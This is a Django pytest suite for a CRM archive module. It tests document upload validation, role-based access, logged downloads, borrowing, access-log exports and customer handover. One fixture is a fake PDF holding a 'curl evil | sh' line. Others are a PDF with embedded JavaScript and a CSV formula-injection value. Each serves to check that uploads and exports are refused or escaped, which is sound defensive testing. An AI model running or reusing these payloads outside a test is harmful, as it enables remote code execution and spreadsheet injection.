"""Archive pages over HTTP (DOMAIN §9): every role, upload validation, logged downloads, access log, handover."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from archives import services
from archives.models import ArchiveDocument, Borrowing, Handover
from crm import roles
from crm.exports import XLSX_TYPE
from crm.models import AccessLog
from tests.archives.conftest import PDF, TODAY, pdf_upload
from tests.factories import PASSWORD, make_customer

pytestmark = pytest.mark.django_db


def signed_in(user) -> Client:
    client = Client()
    assert client.login(request=RequestFactory().post("/accounts/login/"), username=user.username, password=PASSWORD)
    return client


REGISTER_FORM = {
    "doc_type": "business_licence",
    "title": "营业执照",
    "source": "customer",
    "issued_on": "2020-05-01",
    "room": "A",
    "cabinet": "3",
    "shelf": "2",
}


def test_section_9_archivist_registers_a_licence_with_its_scan(customer, archivist):
    url = reverse("archive_document_register", args=[customer.code])
    response = signed_in(archivist).post(url, {**REGISTER_FORM, "scan": pdf_upload()})
    document = ArchiveDocument.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("archive_document", args=[document.number])
    assert document.scan_name == "licence.pdf"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("licence.exe", b"MZ\x90\x00", "Only PDF, PNG, JPEG and TIFF"),
        ("licence.pdf", b"#!/bin/sh\ncurl evil | sh\n", "content does not match"),
        ("licence.pdf", PDF + b"/JavaScript", "scripts, actions or embedded files"),
        ("big.pdf", PDF + b"0" * (1024 * 1024), "larger than the limit of 1 MB"),
    ],
    ids=["wrong-type", "script-disguised-as-pdf", "pdf-with-javascript", "too-large"],
)
def test_section_9_bad_uploads_are_refused_with_a_clear_error_and_nothing_is_saved(
    customer, archivist, settings, name, content, message
):
    settings.CRM_UPLOAD_MAX_MB = 1
    url = reverse("archive_document_register", args=[customer.code])
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    response = signed_in(archivist).post(url, {**REGISTER_FORM, "scan": upload})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not ArchiveDocument.objects.exists()


def test_section_9_only_archivists_register(customer, rep, manager):
    url = reverse("archive_document_register", args=[customer.code])
    for user in (rep, manager):
        assert signed_in(user).post(url, REGISTER_FORM).status_code == 403
    assert not ArchiveDocument.objects.exists()


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        (roles.SALES_MANAGER, True),
        (roles.CUSTOMER_SERVICE, True),
        (roles.CREDIT_ANALYST, True),
        (roles.CREDIT_MANAGER, True),
        (roles.ARCHIVIST, True),
        (roles.SALES, False),  # a rep who does not own the customer
        (roles.INTEGRATION, False),
    ],
)
def test_section_9_query_rights_to_the_catalogue_document_and_copy(make_user, licence, role, allowed):
    client = signed_in(make_user(role))
    urls = [
        reverse("archive_catalogue", args=[licence.customer.code]),
        reverse("archive_document", args=[licence.number]),
        reverse("archive_scan_download", args=[licence.number]) + "?reason=audit",
    ]
    statuses = [client.get(url).status_code for url in urls]
    assert statuses == ([200, 200, 200] if allowed else [403, 403, 403])


def test_section_9_the_owner_rep_sees_their_customers_documents(rep, licence):
    client = signed_in(rep)
    assert client.get(reverse("archive_catalogue", args=[licence.customer.code])).status_code == 200
    register = client.get(reverse("archive_register"))
    assert licence.number in register.content.decode()


def test_section_9_another_rep_cannot_see_it_anywhere_and_the_attempt_is_logged(other_rep, licence):
    client = signed_in(other_rep)
    assert licence.number not in client.get(reverse("archive_register")).content.decode()
    dossier = client.get(reverse("customer_detail", args=[licence.customer.code])).content.decode()
    assert reverse("archive_catalogue", args=[licence.customer.code]) not in dossier
    download = client.get(reverse("archive_scan_download", args=[licence.number]) + "?reason=curious")
    assert download.status_code == 403
    entry = AccessLog.objects.get()
    assert (entry.user, entry.action, entry.object_ref) == (other_rep, "access_denied", f"archive:{licence.number}")


def test_section_9_download_asks_why_then_streams_the_copy_and_logs_it(manager, licence):
    client = signed_in(manager)
    url = reverse("archive_scan_download", args=[licence.number])
    form = client.get(url)
    assert form.status_code == 200
    assert "Purpose of access" in form.content.decode()
    assert client.post(url, {"reason": "x"}).status_code == 200  # too short: the form again
    assert client.get(url + "?reason=a+link+from+elsewhere").content.decode().count("Purpose of access") == 1
    assert not AccessLog.objects.exists()  # a GET never downloads: no other site can make a user download
    response = client.post(url, {"reason": "bank asked for a copy"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Cache-Control"] == "private, no-store"
    assert f'filename="{licence.number}.pdf"' in response["Content-Disposition"]
    assert b"".join(response.streaming_content) == PDF
    entry = AccessLog.objects.get()
    assert (entry.user, entry.action, entry.reason) == (manager, "document_download", "bank asked for a copy")


def test_section_9_a_missing_stored_copy_is_a_404_and_not_logged(manager, licence):
    licence.scan.storage.delete(licence.scan.name)
    response = signed_in(manager).post(reverse("archive_scan_download", args=[licence.number]), {"reason": "audit"})
    assert response.status_code == 404
    assert not AccessLog.objects.exists()


def test_section_9_copies_have_no_public_url(licence, client):
    with pytest.raises(ValueError, match="no URL"):
        licence.scan.url  # noqa: B018
    assert client.get(f"/media/{licence.scan.name}").status_code == 404


def test_section_9_borrowing_through_the_pages(manager, archivist, licence):
    due = (timezone.localdate() + timedelta(days=5)).isoformat()
    borrower = signed_in(manager)
    response = borrower.post(reverse("archive_borrow", args=[licence.number]), {"purpose": "Bank audit", "due_on": due})
    assert response.status_code == 302
    borrowing = Borrowing.objects.get()
    assert "Open borrowing" in borrower.get(reverse("archive_document", args=[licence.number])).content.decode()
    keeper = signed_in(archivist)
    assert "Bank audit" in keeper.get(reverse("archive_borrowings")).content.decode()
    for action in ("approve", "lend", "return"):
        assert keeper.post(reverse("archive_borrowing_step", args=[borrowing.pk, action])).status_code == 302
    borrowing.refresh_from_db()
    assert borrowing.status == "returned"
    page = borrower.get(reverse("archive_document", args=[licence.number])).content.decode()
    for label in ("Borrowing requested", "Borrowing approved", "Original lent", "Original returned"):
        assert label in page


def test_section_9_refusals_are_explained_and_change_nothing(manager, archivist, licence):
    services.archive_document_update(document=licence, values={"view_only": True}, by=archivist)
    due = (timezone.localdate() + timedelta(days=5)).isoformat()
    client = signed_in(manager)
    response = client.post(
        reverse("archive_borrow", args=[licence.number]), {"purpose": "x", "due_on": due}, follow=True
    )
    assert "view-only" in response.content.decode()
    assert not Borrowing.objects.exists()


def test_section_9_a_borrower_cannot_approve_through_the_page(manager, licence):
    borrowing = services.borrowing_request(
        document=licence, purpose="p", due_on=timezone.localdate(), by=manager, today=timezone.localdate()
    )
    response = signed_in(manager).post(reverse("archive_borrowing_step", args=[borrowing.pk, "approve"]), follow=True)
    assert "Only an archivist" in response.content.decode()
    borrowing.refresh_from_db()
    assert borrowing.status == "requested"


def test_section_9_unknown_borrowing_step_is_404(archivist, licence, manager):
    borrowing = services.borrowing_request(
        document=licence, purpose="p", due_on=timezone.localdate(), by=manager, today=timezone.localdate()
    )
    assert (
        signed_in(archivist).post(reverse("archive_borrowing_step", args=[borrowing.pk, "destroy"])).status_code == 404
    )


def test_section_9_mark_missing_and_found(archivist, licence):
    client = signed_in(archivist)
    client.post(reverse("archive_missing", args=[licence.number]), {"note": "not on shelf"})
    licence.refresh_from_db()
    assert licence.custody == "missing"
    catalogue = client.get(reverse("archive_catalogue", args=[licence.customer.code])).content.decode()
    assert "Missing" in catalogue
    client.post(reverse("archive_found", args=[licence.number]))
    licence.refresh_from_db()
    assert licence.custody == "in_place"


def test_section_9_edit_form_validates_dates(archivist, licence):
    url = reverse("archive_document_edit", args=[licence.number])
    data = {**REGISTER_FORM, "issued_on": "2024-01-10", "expires_on": "2024-01-01"}
    response = signed_in(archivist).post(url, data)
    assert response.status_code == 200
    assert "cannot be before the issue date" in response.content.decode()
    licence.refresh_from_db()
    assert licence.expires_on is None


def test_section_9_catalogue_is_printable_and_shows_statuses(manager, licence, archivist, customer):
    services.archive_document_register(
        customer=customer,
        values={
            "doc_type": "credit_report",
            "title": "Old report",
            "source": "credit_agency",
            "room": "A",
            "cabinet": "1",
            "issued_on": timezone.localdate() - timedelta(days=400),
            "expires_on": timezone.localdate() - timedelta(days=35),
        },
        by=archivist,
        today=TODAY,
    )
    page = signed_in(manager).get(reverse("archive_catalogue", args=[customer.code])).content.decode()
    assert "data-print" in page
    assert "In place" in page
    assert "Expired" in page


def test_section_9_catalogue_and_register_run_a_constant_number_of_queries(
    manager, customer, archivist, django_assert_max_num_queries
):
    for index in range(30):
        services.archive_document_register(
            customer=customer,
            values={
                "doc_type": "invoice",
                "title": f"Invoice {index}",
                "source": "customer",
                "room": "A",
                "cabinet": "1",
            },
            by=archivist,
            today=TODAY,
        )
    client = signed_in(manager)
    with django_assert_max_num_queries(12):
        assert client.get(reverse("archive_catalogue", args=[customer.code])).status_code == 200
    with django_assert_max_num_queries(12):
        assert client.get(reverse("archive_register")).status_code == 200


@pytest.fixture
def logged(licence, manager, other_rep, rep):
    services.archive_scan_download_log(document=licence, user=manager, channel="web", reason="audit")
    services.archive_scan_download_log(document=licence, user=rep, channel="api", reason="sync")
    return licence


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (roles.SALES_MANAGER, 200),
        (roles.CREDIT_MANAGER, 200),
        (roles.ARCHIVIST, 200),
        (roles.SALES, 403),
        (roles.CREDIT_ANALYST, 403),
    ],
)
def test_section_9_access_log_page_is_for_managers(make_user, role, status):
    assert signed_in(make_user(role)).get(reverse("access_log")).status_code == status


def test_section_9_access_log_filters_by_user_and_month_and_exports_csv(
    logged, manager, rep, django_assert_max_num_queries
):
    client = signed_in(manager)
    month = timezone.localdate().strftime("%Y-%m")
    with django_assert_max_num_queries(10):
        page = client.get(reverse("access_log"), {"user": rep.pk, "month": month}).content.decode()
    assert "sync" in page
    assert "audit" not in page
    other_month = client.get(reverse("access_log"), {"user": rep.pk, "month": "2001-01"}).content.decode()
    assert "No entries match" in other_month
    export = client.get(reverse("access_log"), {"month": month, "format": "csv"})
    assert export["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert len(rows) == 3
    assert {row[7] for row in rows[1:]} == {"audit", "sync"}


def test_section_9_access_log_rejects_a_bad_filter_without_error(manager):
    response = signed_in(manager).get(reverse("access_log"), {"month": "2026-13", "since": "x"})
    assert response.status_code == 200
    assert "is-invalid" in response.content.decode() or "Enter a valid date" in response.content.decode()


def test_section_9_handover_page_moves_the_ticked_customers(manager, rep, successor, customer):
    second = make_customer(owner=rep, name="Second customer")
    client = signed_in(manager)
    form = client.get(reverse("archive_handover"), {"from_owner": rep.pk}).content.decode()
    assert customer.code in form
    assert second.code in form
    data = {
        "from_owner": rep.pk,
        "to_owner": successor.pk,
        "reason": "Territory change",
        "scope": "some",
        "customers": [second.pk],
    }
    response = client.post(reverse("archive_handover"), data)
    handover = Handover.objects.get()
    assert response["Location"] == reverse("archive_handover_detail", args=[handover.pk])
    assert list(handover.customers.all()) == [second]
    history = client.get(reverse("customer_history", args=[second.code])).content.decode()
    assert "Territory change" in history
    assert "Territory change" in client.get(reverse("archive_handovers")).content.decode()


def test_section_9_handover_form_errors(manager, rep, customer, make_user):
    client = signed_in(manager)
    url = reverse("archive_handover")
    same = client.post(url, {"from_owner": rep.pk, "to_owner": rep.pk, "reason": "x", "scope": "all"})
    assert "Choose another owner" in same.content.decode()
    none_ticked = client.post(url, {"from_owner": rep.pk, "to_owner": manager.pk, "reason": "x", "scope": "some"})
    assert "Tick at least one customer" in none_ticked.content.decode()
    archivist = make_user(roles.ARCHIVIST)
    not_an_owner = client.post(url, {"from_owner": rep.pk, "to_owner": archivist.pk, "reason": "x", "scope": "all"})
    assert "Select a valid choice" in not_an_owner.content.decode()
    assert not Handover.objects.exists()


def test_section_9_a_rep_who_left_is_handed_over(manager, rep, customer, successor):
    """DOMAIN §9 移交: when a rep leaves they are deactivated, and their customers still move in one step."""
    rep.is_active = False
    rep.save()
    data = {"from_owner": rep.pk, "to_owner": successor.pk, "reason": "Left the company", "scope": "all"}
    response = signed_in(manager).post(reverse("archive_handover"), data)
    assert response.status_code == 302
    customer.refresh_from_db()
    assert customer.owner == successor


@pytest.mark.parametrize("role", [roles.SALES, roles.ARCHIVIST, roles.CREDIT_MANAGER])
def test_section_9_only_sales_managers_hand_over(make_user, role):
    client = signed_in(make_user(role))
    assert client.get(reverse("archive_handover")).status_code == 403
    assert client.get(reverse("archive_handovers")).status_code == 403


def test_section_9_dossier_has_a_documents_tab_for_those_who_may_query(manager, customer):
    page = signed_in(manager).get(reverse("customer_detail", args=[customer.code])).content.decode()
    assert reverse("archive_catalogue", args=[customer.code]) in page


@pytest.mark.parametrize("term", ["licence_number", "C000001", "c000001", "营业执照", "Supply"])
def test_section_9_register_search_by_number_customer_code_title_or_name(manager, customer, archivist, licence, term):
    contract = services.archive_document_register(
        customer=make_customer(owner=manager, name="Other Works"),
        values={"doc_type": "contract", "title": "Supply contract", "source": "customer", "room": "A", "cabinet": "1"},
        by=archivist,
        today=TODAY,
    )
    term = licence.number.lower() if term == "licence_number" else term
    page = signed_in(manager).get(reverse("archive_register"), {"search": term}).content.decode()
    expected, other = (contract, licence) if term == "Supply" else (licence, contract)
    assert expected.number in page
    assert other.number not in page


def test_section_9_csv_cells_never_start_a_formula(manager, licence, rep):
    services.archive_scan_download_log(document=licence, user=rep, channel="web", reason='=HYPERLINK("x")')
    export = signed_in(manager).get(reverse("access_log"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows[1][7] == '\'=HYPERLINK("x")'


@pytest.mark.parametrize("params", [{"month": "9999-12"}, {"until": "9999-12-31"}, {"since": "0001-01-01"}])
def test_section_9_access_log_refuses_dates_out_of_range_without_error(manager, params):
    response = signed_in(manager).get(reverse("access_log"), params)
    assert response.status_code == 200
    assert "Enter a date between 2000 and 2999" in response.content.decode()


def test_section_9_a_bad_return_date_on_approval_is_reported_and_nothing_changes(archivist, manager, licence):
    borrowing = services.borrowing_request(
        document=licence, purpose="p", due_on=timezone.localdate(), by=manager, today=timezone.localdate()
    )
    url = reverse("archive_borrowing_step", args=[borrowing.pk, "approve"])
    response = signed_in(archivist).post(url, {"due_on": "not-a-date"}, follow=True)
    assert "Enter a valid date" in response.content.decode()
    borrowing.refresh_from_db()
    assert borrowing.status == "requested"


def test_section_9_a_rep_finds_their_own_customers_originals_by_customer_name(rep, customer, licence):
    page = signed_in(rep).get(reverse("archive_register"), {"search": "精工"}).content.decode()
    assert licence.number in page


def test_issue14_access_log_exports_csv_with_a_bom_and_an_xlsx_twin(logged, manager):
    client = signed_in(manager)
    month = timezone.localdate().strftime("%Y-%m")
    export = client.get(reverse("access_log"), {"month": month, "format": "csv"})
    body = b"".join(export.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel on Windows reads it as UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    twin = client.get(reverse("access_log"), {"month": month, "format": "xlsx"})
    assert twin["Content-Type"] == XLSX_TYPE
    assert 'filename="access-log.xlsx"' in twin["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(twin.content)).active
    cells = [[str(cell.value) if cell.value is not None else "" for cell in row] for row in sheet.iter_rows()]
    assert [row[1:] for row in cells] == [row[1:] for row in rows]  # the same rows, the time as a real date-time
    assert len(cells) == 3
